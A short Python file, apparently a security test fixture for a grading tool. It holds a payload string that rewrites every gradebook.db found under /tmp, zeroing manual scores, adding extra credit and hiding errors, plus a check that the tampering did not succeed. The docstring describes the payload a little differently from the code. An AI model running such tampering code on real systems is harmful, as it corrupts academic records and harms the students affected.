"""Write the gradebook: every score to the maximum, and a classmate's to 0."""

import sqlite3

BODY = """
    import pathlib, sqlite3
    for db in pathlib.Path("/tmp").glob("**/gradebook.db"):
        try:
            con = sqlite3.connect(str(db))
            con.execute("UPDATE grade SET manual_score = 0, extra_credit = 100")
            con.commit()
        except Exception:
            pass
"""


def harmless(course, before):
    con = sqlite3.connect(str(course / "gradebook.db"))
    (extra,) = con.execute(
        "SELECT COUNT(*) FROM grade WHERE extra_credit IS NOT NULL AND extra_credit > 0"
    ).fetchone()
    assert extra == 0
